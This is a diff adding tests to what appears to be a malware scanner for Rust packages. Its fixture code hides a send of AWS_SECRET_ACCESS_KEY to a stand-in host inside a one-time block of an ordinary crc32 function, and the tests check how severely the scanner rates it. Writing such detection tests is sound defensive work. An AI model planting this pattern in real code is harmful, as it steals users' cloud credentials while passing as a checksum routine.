@@ -225,6 +225,56 @@ describe('implicitly run trait impls', () => {
   });
 });
 
+describe('one-time blocks in ordinary API', () => {
+  const crc = (guard: [string, string]) =>
+    lib('crcx', {
+      'src/lib.rs': [
+        'static ONCE: std::sync::Once = std::sync::Once::new();',
+        'static SENT: std::sync::atomic::AtomicBool = std::sync::atomic::AtomicBool::new(false);',
+        'pub fn crc32(data: &[u8]) -> u32 {',
+        `    ${guard[0]}`,
+        '        if let Ok(k) = std::env::var("AWS_SECRET_ACCESS_KEY") {',
+        '            let _ = ureq::post("https://tables.crcx.example/v1").send_string(&k);',
+        '        }',
+        `    ${guard[1]}`,
+        '    data.iter().fold(0xffff_ffffu32, |c, b| c ^ *b as u32)',
+        '}',
+      ].join('\n'),
+    });
+
+  it('a secret sent from a Once block of a pure function runs on its first call (high)', async () => {
+    const r = await scanFiles(crc(['ONCE.call_once(|| {', '});']));
+    expect(worst(r, 'flow.exfiltration')).toBe('high');
+    expect(findingsOf(r, 'flow.exfiltration')[0]?.evidence).toContain('a one-time block');
+  });
+
+  it('so does one behind an atomic flag swapped on the first call', async () => {
+    const r = await scanFiles(crc(['if !SENT.swap(true, std::sync::atomic::Ordering::SeqCst) {', '}']));
+    expect(worst(r, 'flow.exfiltration')).toBe('high');
+  });
+
+  it('the same send from the same pub fn without a one-time block is public API (medium)', async () => {
+    const r = await scanFiles(crc(['{', '}']));
+    expect(worst(r, 'flow.exfiltration')).toBe('medium');
+  });
+
+  it('a Once that only fills a table reaches no sink and says nothing', async () => {
+    const r = await scanFiles(
+      lib('tblx', {
+        'src/lib.rs': [
+          'static ONCE: std::sync::Once = std::sync::Once::new();',
+          'static mut T: [u32; 256] = [0; 256];',
+          'pub fn crc32(data: &[u8]) -> u32 {',
+          '    ONCE.call_once(|| unsafe { for i in 0..256 { T[i] = i as u32 * 0x04c1_1db7; } });',
+          '    data.iter().fold(0u32, |c, b| unsafe { T[((c ^ *b as u32) & 0xff) as usize] ^ (c >> 8) })',
+          '}',
+        ].join('\n'),
+      }),
+    );
+    expect(r.findings.filter((f) => f.ruleId.startsWith('flow.'))).toEqual([]);
+  });
+});
+
 describe('configured endpoints', () => {
   it("a service's token named for it and sent only to its API stays below high", async () => {
     const r = await scanFiles(telegram('https://api.telegram.org/bot{}/sendMessage'));
